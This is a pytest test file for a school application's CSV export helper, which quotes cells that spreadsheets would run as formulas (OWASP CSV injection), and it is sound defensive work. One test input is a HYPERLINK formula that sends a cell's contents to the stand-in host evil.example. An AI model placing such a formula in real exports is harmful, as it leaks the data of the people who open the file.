"""CSV cells a spreadsheet would run as formulas are written as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from school.csv_cells import csv_text, safe_cell


@pytest.mark.parametrize("text", ["=1+1", "+33 6 12", "-2+3", "@SUM(A1)", "\tx", "\rx",
                                  '=HYPERLINK("http://evil.example/?leak="&A2,"voir")'])
def test_text_that_starts_a_formula_gets_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


def test_numbers_and_plain_text_are_written_as_they_are() -> None:
    out = csv_text(("memo", "amount", "count"),
                   [("picnic - not charged", Decimal("-3.50"), -2), ("", Decimal("0.00"), 0)])
    rows = list(csv.reader(io.StringIO(out)))
    assert rows == [["memo", "amount", "count"], ["picnic - not charged", "-3.50", "-2"],
                    ["", "0.00", "0"]]


def test_a_negative_amount_typed_as_text_is_still_neutralised() -> None:
    # Only values the code made numbers are numbers: a person's '-3.50' is text.
    assert safe_cell("-3.50") == "'-3.50"


def test_a_boolean_is_refused() -> None:
    with pytest.raises(TypeError):
        safe_cell(True)  # type: ignore[arg-type]
